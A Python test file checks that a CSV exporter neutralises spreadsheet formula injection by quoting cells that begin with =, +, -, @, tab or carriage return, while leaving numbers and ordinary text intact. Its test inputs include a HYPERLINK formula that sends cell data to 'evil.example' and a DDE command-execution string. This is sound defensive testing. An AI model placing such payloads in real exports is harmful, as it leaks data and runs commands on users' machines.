"""CSV exports are safe to open in a spreadsheet: no text cell is read as a formula (OWASP)."""

import csv
import io
from decimal import Decimal

import pytest

from core import exports


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\rcmd", "=1"])
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert exports.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["esx-01", "web=1", "a-b", "", "'quoted", "한국어"])
def test_ordinary_text_is_unchanged(value):
    assert exports.safe_cell(value) == value


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-1.10"), 0, 42])
def test_numbers_stay_numbers(number):
    # A negative number is data, not a formula: a spreadsheet should still sum it.
    assert exports.safe_cell(number) == number


def test_negative_number_as_text_is_quoted():
    assert exports.safe_cell("-5") == "'-5"


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'plain", "plain", "-", "'", "@"])
def test_unquote_undoes_quoting_exactly(text):
    assert exports.unquote_cell(exports.safe_cell(text)) == text


def test_writer_quotes_every_cell_and_streams_lines():
    class Echo:
        def write(self, value):
            return value

    line = exports.writer(Echo()).writerow(["=cmd|' /C calc'!A0", 3, -1, "ok"])
    assert next(csv.reader(io.StringIO(line))) == ["'=cmd|' /C calc'!A0", "3", "-1", "ok"]
